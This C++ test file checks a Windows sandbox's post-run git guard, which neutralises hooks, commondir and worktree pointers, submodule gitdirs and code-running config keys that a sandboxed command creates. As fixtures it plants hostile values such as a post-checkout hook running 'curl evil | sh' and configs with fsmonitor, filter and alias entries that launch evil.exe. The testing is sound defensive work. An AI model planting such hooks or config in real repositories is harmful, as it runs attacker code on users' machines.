// The post-run git guard (plan/windows/git_guard.hpp) on the model volume: a commondir
// or config.worktree the sandbox created in a protected gitdir (F2/F13 of the Windows
// review: absent names carry no ACE) is renamed away after the run; names that were
// there before, and a gitdir replaced by a link, are left alone.
#include "plan/windows/git_guard.hpp"

#include <gtest/gtest.h>

#include <algorithm>

#include "core/git_config.hpp"
#include "plan/windows/win_path.hpp"
#include "win_fixture.hpp"

namespace cordon::win {
namespace {

using test::Host;
using test::kWs;

std::string ws(const std::string& rel) {
  return std::string(kWs) + "\\" + rel;
}

const GitWatch* watch_for(const WinPlan& plan, const std::string& gitdir) {
  auto it = std::find_if(plan.git_watch.begin(), plan.git_watch.end(),
                         [&](const GitWatch& w) { return same_path(w.gitdir, gitdir); });
  return it == plan.git_watch.end() ? nullptr : &*it;
}

TEST(WinGitGuard, TheSandboxCanCreateCommondirSoItIsRenamedAwayAfterTheRun) {
  Host h;
  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  test::apply(*h.fs, *p);
  TokenModel t = model_token(*p, h.host);
  // The gap the guard closes: both names are absent, so no ACE can stop their creation
  // (an empty commondir placeholder would break git), under either restricted scope.
  for (auto scope : {RestrictedScope::AllModifying, RestrictedScope::GenericWrite}) {
    EXPECT_TRUE(h.fs->can(t, Op::Create, ws(".git\\commondir"), scope));
    EXPECT_TRUE(h.fs->can(t, Op::Create, ws(".git\\config.worktree"), scope));
  }
  const GitWatch* w = watch_for(*p, ws(".git"));
  ASSERT_NE(w, nullptr) << "the workspace's .git must be watched";
  EXPECT_TRUE(w->present.empty());

  // The command writes them (case variants too: NTFS folds the names).
  h.fs->add_file(ws(".git\\CommonDir"), {}, "C:\\Users\\alice\\outside\n");
  h.fs->add_file(ws(".git\\config.worktree"), {}, "[core]\n\thooksPath = C:/x\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = remove_new_pointers(ops, *w, "t1");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  EXPECT_EQ(r.renamed.size(), 2u);
  EXPECT_EQ(h.fs->stat(ws(".git\\commondir")).kind, FsEntry::Kind::Missing);
  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree")).kind, FsEntry::Kind::Missing);
  EXPECT_EQ(h.fs->stat(ws(".git\\CommonDir.cordon-removed-t1")).kind, FsEntry::Kind::File);
  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree.cordon-removed-t1")).kind, FsEntry::Kind::File);
  // Git's own files are untouched; a second pass finds nothing new.
  EXPECT_EQ(h.fs->stat(ws(".git\\HEAD")).kind, FsEntry::Kind::File);
  EXPECT_TRUE(remove_new_pointers(ops, *w, "t1").renamed.empty());
}

TEST(WinGitGuard, PointersThatExistedBeforeTheRunStay) {
  Host h;
  h.fs->add_file(ws(".git\\config.worktree"), {}, "[core]\n");
  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  const GitWatch* w = watch_for(*p, ws(".git"));
  ASSERT_NE(w, nullptr);
  ASSERT_EQ(w->present, std::vector<std::string>{"config.worktree"});
  h.fs->add_file(ws(".git\\commondir"), {}, "..\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = remove_new_pointers(ops, *w, "t2");
  ASSERT_EQ(r.renamed.size(), 1u);
  EXPECT_NE(r.renamed[0].find("commondir"), std::string::npos);
  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree")).kind, FsEntry::Kind::File);
}

TEST(WinGitGuard, AGitDirReplacedByALinkIsReportedNeverEntered) {
  Host h;
  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  const GitWatch* w = watch_for(*p, ws(".git"));
  ASSERT_NE(w, nullptr);
  // Under the narrow restricted pass the pin does not hold: .git swapped for a link to a
  // directory that has a commondir of its own (the user's other repository).
  h.fs->mkdir("C:\\Users\\alice\\other\\.git");
  h.fs->add_file("C:\\Users\\alice\\other\\.git\\commondir", {}, "x\n");
  ASSERT_TRUE(h.fs->rename_entry(ws(".git"), ".git_old"));
  h.fs->add_link(ws(".git"), "C:\\Users\\alice\\other\\.git");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = remove_new_pointers(ops, *w, "t3");
  EXPECT_TRUE(r.renamed.empty());
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_NE(r.warnings[0].find("no longer a plain directory"), std::string::npos);
  EXPECT_EQ(h.fs->stat("C:\\Users\\alice\\other\\.git\\commondir").kind, FsEntry::Kind::File);
}

TEST(WinGitGuard, OnlyGitDirsInsideAWritableRootAreWatchedAndNoneUnderGitReadOnly) {
  Host h;
  Policy ro = test::ws_policy();
  ro.git = GitMode::ReadOnly;  // all of .git is denied: nothing can appear
  auto p = plan_windows(ro, h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  EXPECT_TRUE(p->git_watch.empty());
  Policy rw = test::ws_policy();
  rw.git = GitMode::Writable;
  auto q = plan_windows(rw, h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(q) << q.error().message();
  EXPECT_TRUE(q->git_watch.empty());
  auto r = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(r);
  for (const auto& w : r->git_watch) EXPECT_TRUE(is_within(w.gitdir, kWs)) << w.gitdir;
  EXPECT_NE(to_json(*r).dump().find("git_watch"), std::string::npos);
}

}  // namespace
}  // namespace cordon::win

namespace cordon::win {
namespace {

// F13: a repository the command creates in a root that had none (git init, git clone)
// would run its hooks and code-running config the first time the user runs git there.
TEST(WinGitGuard, ARepositoryCreatedInTheRunIsNeutralised) {
  Host h;
  const std::string root = test::kWsB;  // no .git yet
  Policy policy = test::ws_policy(root);
  auto p = plan_windows(policy, h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  ASSERT_EQ(p->new_repo_roots, std::vector<std::string>{root});
  test::apply(*h.fs, *p);
  // The gap: nothing stops the command from creating any of this (no .git, no ACE).
  TokenModel t = model_token(*p, h.host);
  EXPECT_TRUE(h.fs->can(t, Op::Mkdir, root + "\\.git", RestrictedScope::AllModifying));

  h.fs->mkdir(root + "\\.git\\hooks");
  h.fs->add_file(root + "\\.git\\hooks\\post-checkout", {}, "#!/bin/sh\ncurl evil | sh\n");
  h.fs->add_file(root + "\\.git\\config", {}, "[core]\n\thooksPath = C:/x\n\tfsmonitor = evil.exe\n");
  h.fs->add_file(root + "\\.git\\HEAD", {}, "ref: refs/heads/main\n");
  h.fs->mkdir(root + "\\.git\\modules\\lib\\hooks");
  h.fs->add_file(root + "\\.git\\commondir", {}, "C:/Users/alice/outside\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = neutralise_new_repository(ops, root, "t4");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  EXPECT_EQ(r.renamed.size(), 4u);
  for (const char* gone : {"hooks", "modules", "commondir"}) {
    EXPECT_EQ(h.fs->stat(root + "\\.git\\" + gone).kind, FsEntry::Kind::Missing) << gone;
    EXPECT_NE(h.fs->stat(root + "\\.git\\" + gone + ".cordon-removed-t4").kind, FsEntry::Kind::Missing)
        << gone;
  }
  // No key of the config was inert: the original is kept aside, and git finds a minimal
  // config (what git init writes on Windows) in its place.
  EXPECT_NE(h.fs->stat(root + "\\.git\\config.cordon-removed-t4").kind, FsEntry::Kind::Missing);
  auto config = h.fs->read_small(root + "\\.git\\config", 1 << 20);
  ASSERT_TRUE(config);
  EXPECT_NE(config->find("repositoryformatversion = 0"), std::string::npos) << *config;
  EXPECT_EQ(config->find("hooksPath"), std::string::npos) << *config;
  EXPECT_EQ(config->find("fsmonitor"), std::string::npos) << *config;
  EXPECT_EQ(h.fs->stat(root + "\\.git\\HEAD").kind, FsEntry::Kind::File);
  bool named = false;
  for (const auto& line : r.renamed) named |= line.find("core.hookspath") != std::string::npos;
  EXPECT_TRUE(named) << "the dropped keys are named";
}

TEST(WinGitGuard, AnInertConfigIsKeptAndALinkedGitIsRenamedAway) {
  Host h;
  const std::string root = test::kWsB;
  h.fs->mkdir(root + "\\.git");
  h.fs->add_file(root + "\\.git\\config", {},
                 "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
                 "[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = "
                 "+refs/heads/*:refs/remotes/origin/*\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = neutralise_new_repository(ops, root, "t5");
  EXPECT_TRUE(r.renamed.empty()) << r.renamed.front();
  EXPECT_EQ(h.fs->stat(root + "\\.git\\config").kind, FsEntry::Kind::File);

  Host g;
  g.fs->add_link(root + "\\.git", test::kOutside);
  ModelTreeOps gops(*g.fs);
  GitGuardResult l = neutralise_new_repository(gops, root, "t6");
  ASSERT_EQ(l.renamed.size(), 1u);
  EXPECT_TRUE(g.fs->is_link(root + "\\.git.cordon-removed-t6"));
  EXPECT_EQ(g.fs->stat(std::string(test::kOutside) + "\\secret.txt").kind, FsEntry::Kind::File);
}

// F13 remainder: as on Linux, a new repository's config keeps its inert entries (the
// remote, the branch) instead of being renamed away whole; before, git found no config.
TEST(WinGitGuard, ANonInertConfigIsRewrittenToItsInertEntries) {
  Host h;
  const std::string root = test::kWsB;
  h.fs->mkdir(root + "\\.git");
  h.fs->add_file(root + "\\.git\\config", {},
                 "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = tools/x.cmd\n"
                 "[remote \"origin\"]\n\turl = https://example.com/x.git\n"
                 "[filter \"lfs\"]\n\tclean = evil.exe %f\n[alias]\n\tst = !evil.exe\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = neutralise_new_repository(ops, root, "t7");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  ASSERT_EQ(r.renamed.size(), 1u);
  EXPECT_NE(r.renamed[0].find("inert entries"), std::string::npos) << r.renamed[0];
  auto config = h.fs->read_small(root + "\\.git\\config", 1 << 20);
  ASSERT_TRUE(config);
  auto parsed = git_config::parse(*config);
  EXPECT_FALSE(parsed.error);
  std::vector<std::string> names;
  for (const auto& e : parsed.entries) names.push_back(e.full_name());
  EXPECT_EQ(names, (std::vector<std::string>{"core.repositoryformatversion", "remote.origin.url"}));
  EXPECT_TRUE(git_config::filter_inert(parsed.entries).dropped.empty());
  // The original stays beside it for the user, under a name git does not read.
  EXPECT_NE(h.fs->read_small(root + "\\.git\\config.cordon-removed-t7", 1 << 20)->find("fsmonitor"),
            std::string::npos);
}

TEST(WinGitGuard, ALinkedOrBrokenConfigIsReplacedAndItsTargetUntouched) {
  Host h;
  const std::string root = test::kWsB;
  const std::string target = std::string(test::kOutside) + "\\secret.txt";
  h.fs->mkdir(root + "\\.git");
  h.fs->add_link(root + "\\.git\\config", target);
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = neutralise_new_repository(ops, root, "t8");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  EXPECT_TRUE(h.fs->is_link(root + "\\.git\\config.cordon-removed-t8"));
  EXPECT_FALSE(h.fs->is_link(root + "\\.git\\config"));
  EXPECT_NE(h.fs->read_small(root + "\\.git\\config", 1 << 20)->find("repositoryformatversion"),
            std::string::npos);
  EXPECT_EQ(h.fs->read_small(target, 1 << 20), std::string());  // the link's target: not written

  Host b;
  b.fs->mkdir(root + "\\.git");
  b.fs->add_file(root + "\\.git\\config", {}, "[core\n\tfsmonitor = x\n");  // git would not parse it
  ModelTreeOps bops(*b.fs);
  GitGuardResult br = neutralise_new_repository(bops, root, "t9");
  ASSERT_EQ(br.renamed.size(), 1u);
  EXPECT_NE(br.renamed[0].find("minimal config"), std::string::npos) << br.renamed[0];
}

// The writer never opens what is there: a name taken (by a link the sandbox planted, say)
// is an error, and the link is left as it is.
TEST(WinGitGuard, CreateFileNeverOpensAnExistingEntry) {
  Host h;
  const std::string root = test::kWsB;
  h.fs->mkdir(root + "\\.git");
  h.fs->add_link(root + "\\.git\\config", std::string(test::kOutside) + "\\secret.txt");
  ModelTreeOps ops(*h.fs);
  auto git = ops.open(nullptr, root + "\\.git");
  ASSERT_TRUE(git);
  EXPECT_FALSE(ops.create_file(**git, "config", "x"));
  EXPECT_FALSE(ops.create_file(**git, "CONFIG", "x"));
  EXPECT_EQ(h.fs->read_small(std::string(test::kOutside) + "\\secret.txt", 10), std::string());
}

// A submodule gitdir the sandbox made below .git\modules (an absent one carries no ACE):
// `git submodule update --init` reuses a gitdir it finds there and runs its hooks. As
// Linux's guard, it is neutralised after the run; one that existed when planned is not
// touched (its ACEs hold it), nor is a new directory without HEAD emptied of anything.
TEST(WinGitGuard, ASubmoduleGitdirMadeDuringTheRunIsNeutralised) {
  Host h;
  h.fs->mkdir(ws(".git\\modules\\old\\hooks"));
  h.fs->add_file(ws(".git\\modules\\old\\HEAD"));
  h.fs->add_file(ws(".git\\modules\\old\\config"), {}, "[core]\n\tworktree = ../../../old\n");
  h.fs->mkdir(ws(".git\\modules\\libs"));
  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  const GitWatch* w = watch_for(*p, ws(".git"));
  ASSERT_NE(w, nullptr);
  // The command plants one at the top of modules\ and one below a name segment.
  for (const char* m : {"evil", "libs\\inner"}) {
    const std::string gd = ws(std::string(".git\\modules\\") + m);
    h.fs->mkdir(gd + "\\hooks");
    h.fs->add_file(gd + "\\hooks\\post-checkout", {}, "#!/bin/sh\n");
    h.fs->add_file(gd + "\\HEAD");
    h.fs->add_file(gd + "\\config", {}, "[core]\n\tfsmonitor = evil.exe\n\tbare = false\n");
  }
  h.fs->add_link(ws(".git\\modules\\lnk"), std::string(test::kOutside));
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = remove_new_pointers(ops, *w, "t7");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  for (const char* m : {"evil", "libs\\inner"}) {
    const std::string gd = ws(std::string(".git\\modules\\") + m);
    EXPECT_EQ(h.fs->stat(gd + "\\hooks").kind, FsEntry::Kind::Missing) << m;
    auto config = h.fs->read_small(gd + "\\config", 1 << 20);
    ASSERT_TRUE(config) << m;
    EXPECT_EQ(config->find("fsmonitor"), std::string::npos) << *config;
  }
  EXPECT_FALSE(h.fs->is_link(ws(".git\\modules\\lnk")));
  EXPECT_EQ(h.fs->stat(std::string(test::kOutside) + "\\secret.txt").kind, FsEntry::Kind::File);
  // The submodule gitdir that was there is left as it was.
  EXPECT_EQ(h.fs->stat(ws(".git\\modules\\old\\hooks")).kind, FsEntry::Kind::Directory);
  EXPECT_NE(h.fs->read_small(ws(".git\\modules\\old\\config"), 1 << 20)->find("worktree"), std::string::npos);
}

// A worktree gitdir made during the run (git worktree add in the sandbox): its
// config.worktree is config git reads there, a commondir other than git's "../.." sends
// git elsewhere; both renamed away after the run; git's own "../.." is kept.
TEST(WinGitGuard, AWorktreeGitdirMadeDuringTheRunKeepsOnlyGitsOwnCommondir) {
  Host h;
  h.fs->mkdir(ws(".git\\worktrees\\kept"));
  h.fs->add_file(ws(".git\\worktrees\\kept\\HEAD"));
  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
  ASSERT_TRUE(p) << p.error().message();
  const GitWatch* w = watch_for(*p, ws(".git"));
  ASSERT_NE(w, nullptr);
  h.fs->mkdir(ws(".git\\worktrees\\good"));
  h.fs->add_file(ws(".git\\worktrees\\good\\commondir"), {}, "../..\n");
  h.fs->mkdir(ws(".git\\worktrees\\bad"));
  h.fs->add_file(ws(".git\\worktrees\\bad\\commondir"), {}, "C:/Users/alice/outside\n");
  h.fs->add_file(ws(".git\\worktrees\\bad\\config.worktree"), {}, "[core]\n\tfsmonitor = x.exe\n");
  ModelTreeOps ops(*h.fs);
  GitGuardResult r = remove_new_pointers(ops, *w, "t8");
  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
  EXPECT_EQ(r.renamed.size(), 2u);
  EXPECT_EQ(h.fs->stat(ws(".git\\worktrees\\good\\commondir")).kind, FsEntry::Kind::File);
  EXPECT_EQ(h.fs->stat(ws(".git\\worktrees\\bad\\commondir")).kind, FsEntry::Kind::Missing);
  EXPECT_EQ(h.fs->stat(ws(".git\\worktrees\\bad\\config.worktree")).kind, FsEntry::Kind::Missing);
  EXPECT_EQ(h.fs->stat(ws(".git\\worktrees\\kept\\HEAD")).kind, FsEntry::Kind::File);
}

}  // namespace
}  // namespace cordon::win
